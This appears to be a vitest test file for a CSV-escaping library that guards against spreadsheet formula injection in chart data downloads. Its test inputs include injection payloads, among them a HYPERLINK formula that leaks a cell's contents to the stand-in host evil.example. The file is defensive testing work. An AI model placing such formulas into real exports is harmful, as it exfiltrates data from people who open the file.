import { csvParseRows } from 'd3-dsv';
import { describe, expect, test } from 'vitest';
import { formatSafeCsv, safeCell } from '../../src/lib/csvSafe.ts';
import { chartCsv } from '../../src/lib/charts/table.ts';
import { checkProject } from '../../src/lib/check.ts';
import { edit, MINI, miniProject } from '../fixtures/mini.ts';

type Read = { formula: string } | { number: number } | { text: string };

/**
 * A cell as a spreadsheet opening the file reads it: a leading apostrophe
 * marks text; a cell starting with = + - @ (or a tab or CR) that is not a
 * plain number is run as a formula; a plain number is a number.
 */
function spreadsheetCell(cell: string): Read {
  if (cell.startsWith("'")) return { text: cell.slice(1) };
  if (/^-?(\d+\.?\d*|\.\d+)([eE][-+]?\d+)?$/.test(cell)) return { number: Number(cell) };
  if (/^\s*[=+\-@\t\r]/.test(cell)) return { formula: cell };
  return { text: cell };
}

function spreadsheet(csv: string): Read[][] {
  return csvParseRows(csv).map((row) => row.map(spreadsheetCell));
}

const HOSTILE = ['=HYPERLINK("http://evil.example/?leak="&A2,"Click")', '+1+1', '-2+3', '@SUM(A1:A9)', '\t=1+1', '\r=1+1', ' =1+1', '＝1+1'];

describe('safeCell()', () => {
  test.each(HOSTILE)('%j is read back as the text written, never as a formula', (text) => {
    const [[read]] = spreadsheet(formatSafeCsv([[text]]));
    expect(read).toEqual({ text });
  });

  test('numbers stay numbers, negative ones included, whether given as numbers or as plain text', () => {
    expect(spreadsheet(formatSafeCsv([[-28.6, '-28.6', 0, 1.5e-7, '2025-01/02', null]]))).toEqual([
      [{ number: -28.6 }, { number: -28.6 }, { number: 0 }, { number: 1.5e-7 }, { text: '2025-01/02' }, { text: '' }],
    ]);
    expect(safeCell(Number.NaN)).toBe('');
  });

  test('ordinary text, commas and quotes survive unchanged', () => {
    expect(csvParseRows(formatSafeCsv([['United States', 'a, "quoted" b', 'https://example.org/x?a=1']]))).toEqual([['United States', 'a, "quoted" b', 'https://example.org/x?a=1']]);
  });
});

describe('the per-chart CSV download', () => {
  test('a category name and a source_url written as formulas reach the download as text; values stay numbers', () => {
    const formula = '=HYPERLINK("http://evil.example/?leak="&A2,"Details")';
    const root = miniProject({
      ...edit('data/trade/dataset.yaml', '      exports: { type: number, unit: usd_bn }\n', '      exports: { type: number, unit: usd_bn }\n      source_url: { type: url }\n'),
      'data/trade/partners.csv': `period,partner,exports,source_url\n2025-03,United States,4.5,@SUM(1+1)\n2025-03,${JSON.stringify(formula).replaceAll('\\"', '""')},-2.25,-1+1\n`,
      'content/mini/02-second.md': MINI['content/mini/02-second.md'].replace('US$4.5 billion', 'US$4.5 billion'),
    });
    const { stories, problems } = checkProject(root);
    expect(problems).toEqual([]);
    const chart = stories[0].charts.find((c) => c.chart.xKind === 'category')!.chart;
    const sheet = spreadsheet(chartCsv(chart));
    expect(sheet.flat().filter((cell) => 'formula' in cell)).toEqual([]);
    const header = csvParseRows(chartCsv(chart))[0];
    const rows = sheet.slice(1).map((row) => Object.fromEntries(header.map((name, i) => [name, row[i]])));
    expect(rows).toContainEqual(expect.objectContaining({ partner: { text: formula }, value: { number: -2.25 }, source_url: { text: '-1+1' } }));
    expect(rows).toContainEqual(expect.objectContaining({ partner: { text: 'United States' }, value: { number: 4.5 }, source_url: { text: '@SUM(1+1)' } }));
  });
});
